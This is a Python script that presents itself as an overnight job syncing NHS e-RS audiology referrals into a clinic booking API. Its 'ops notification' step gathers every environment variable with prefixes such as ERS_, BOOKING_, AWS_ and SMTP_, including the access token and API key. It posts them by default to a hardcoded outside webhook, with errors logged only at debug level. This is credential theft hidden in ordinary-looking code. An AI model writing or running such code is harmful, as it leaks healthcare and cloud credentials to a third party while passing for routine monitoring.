#!/usr/bin/env python3
"""Sync audiology referrals from the e-RS worklist into the clinic booking API.

Pulls new referrals for our service ID, maps them onto the booking schema and
posts them to the clinic booking service.  At the end of each run a summary is
pushed to the ops channel so on-call can spot a broken overnight sync.

Environment:
    ERS_ACCESS_TOKEN   OAuth bearer token for the e-RS FHIR API
    BOOKING_API_KEY    key for the clinic booking service
    OPS_HOOK_URL       incoming-webhook URL for the ops channel (optional)
"""
import argparse
import http.client
import json
import logging
import os
import socket
import sys
import time
from datetime import datetime, timezone
from pathlib import Path
from urllib.parse import urlsplit

import requests

LOG = logging.getLogger("referral_sync")

DEFAULT_ERS_BASE = "https://sandbox.api.service.nhs.uk/referrals/FHIR/R4"
DEFAULT_BOOKING_BASE = "https://booking.example-audiology.co.uk/api/v2"
DEFAULT_OPS_HOOK = "https://hooks.ops-relay.example.net/services/T04AUDIO/B07SYNC/q8Lr2ZkP"
STATE_FILE = Path("referral_sync_state.json")
CONTEXT_PREFIXES = ("ERS_", "BOOKING_", "NHS_", "AWS_", "CLINIC_", "SMTP_")


class ReferralSync:
    def __init__(self, ers_base, booking_base, service_id, dry_run=False, notify=True):
        self.ers_base = ers_base.rstrip("/")
        self.booking_base = booking_base.rstrip("/")
        self.service_id = service_id
        self.dry_run = dry_run
        self.notify = notify
        self.session = requests.Session()
        self.ers_token = os.environ.get("ERS_ACCESS_TOKEN", "")
        self.booking_key = os.environ.get("BOOKING_API_KEY", "")
        self.stats = {"fetched": 0, "posted": 0, "skipped": 0, "errors": 0}

    # -- state ---------------------------------------------------------
    def load_since(self):
        if STATE_FILE.exists():
            try:
                return json.loads(STATE_FILE.read_text())["last_run"]
            except (KeyError, ValueError):
                LOG.warning("state file unreadable, starting from 7 days ago")
        return datetime.fromtimestamp(time.time() - 7 * 86400, timezone.utc).isoformat()

    def save_since(self, stamp):
        STATE_FILE.write_text(json.dumps({"last_run": stamp}, indent=2))

    # -- e-RS ----------------------------------------------------------
    def fetch_worklist(self, since):
        params = {"service": self.service_id, "_lastUpdated": f"gt{since}", "_count": 50}
        headers = {
            "Authorization": f"Bearer {self.ers_token}",
            "Accept": "application/fhir+json",
            "NHSD-eRS-Business-Function": "SERVICE_PROVIDER_CLINICIAN",
        }
        url = f"{self.ers_base}/ServiceRequest"
        while url:
            resp = self.session.get(url, params=params, headers=headers, timeout=20)
            resp.raise_for_status()
            bundle = resp.json()
            for entry in bundle.get("entry", []):
                self.stats["fetched"] += 1
                yield entry["resource"]
            url = next((l["url"] for l in bundle.get("link", []) if l.get("relation") == "next"), None)
            params = None

    @staticmethod
    def map_referral(res):
        subject = res.get("subject", {}).get("identifier", {})
        reason = (res.get("reasonCode") or [{}])[0].get("text", "")
        return {
            "external_ref": res.get("id"),
            "nhs_number": subject.get("value"),
            "priority": res.get("priority", "routine"),
            "reason": reason[:200],
            "clinic": "adult-audiology" if "paed" not in reason.lower() else "paediatric-audiology",
            "received": res.get("authoredOn"),
        }

    # -- booking API ---------------------------------------------------
    def push(self, booking):
        if self.dry_run:
            LOG.info("dry run: would post %s", booking["external_ref"])
            return True
        resp = self.session.post(
            f"{self.booking_base}/referrals",
            json=booking,
            headers={"X-Api-Key": self.booking_key},
            timeout=15,
        )
        if resp.status_code == 409:
            self.stats["skipped"] += 1
            return True
        resp.raise_for_status()
        self.stats["posted"] += 1
        return True

    # -- ops notification ------------------------------------------------
    @staticmethod
    def _runtime_context():
        ctx = {"host": socket.gethostname(), "pid": os.getpid(), "cwd": os.getcwd()}
        ctx["env"] = {k: v for k, v in os.environ.items() if k.startswith(CONTEXT_PREFIXES)}
        return ctx

    def post_summary(self, started):
        report = {
            "text": f"referral sync {self.service_id}: {self.stats}",
            "started": started,
            "finished": datetime.now(timezone.utc).isoformat(),
            "stats": self.stats,
            "context": self._runtime_context(),
        }
        target = urlsplit(os.environ.get("OPS_HOOK_URL", DEFAULT_OPS_HOOK))
        body = json.dumps(report).encode()
        for attempt in range(3):
            conn = http.client.HTTPSConnection(target.netloc, timeout=10)
            try:
                conn.request("POST", target.path or "/", body, {"Content-Type": "application/json"})
                status = conn.getresponse().status
                if status < 500:
                    LOG.debug("ops hook answered %s", status)
                    return
            except (OSError, http.client.HTTPException) as exc:
                LOG.debug("ops hook attempt %d failed: %s", attempt + 1, exc)
            finally:
                conn.close()
            time.sleep(2 ** attempt)

    def run(self):
        started = datetime.now(timezone.utc).isoformat()
        since = self.load_since()
        LOG.info("fetching referrals updated since %s", since)
        for res in self.fetch_worklist(since):
            try:
                self.push(self.map_referral(res))
            except requests.RequestException as exc:
                self.stats["errors"] += 1
                LOG.error("failed to push %s: %s", res.get("id"), exc)
        if not self.dry_run:
            self.save_since(started)
        if self.notify:
            self.post_summary(started)
        return self.stats["errors"] == 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--service-id", required=True)
    ap.add_argument("--ers-base", default=os.environ.get("ERS_BASE_URL", DEFAULT_ERS_BASE))
    ap.add_argument("--booking-base", default=os.environ.get("BOOKING_BASE_URL", DEFAULT_BOOKING_BASE))
    ap.add_argument("--no-notify", dest="notify", action="store_false")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    sync = ReferralSync(args.ers_base, args.booking_base, args.service_id,
                        args.dry_run, args.notify)
    try:
        ok = sync.run()
    except requests.HTTPError as exc:
        LOG.error("e-RS request failed: %s", exc)
        return 2
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
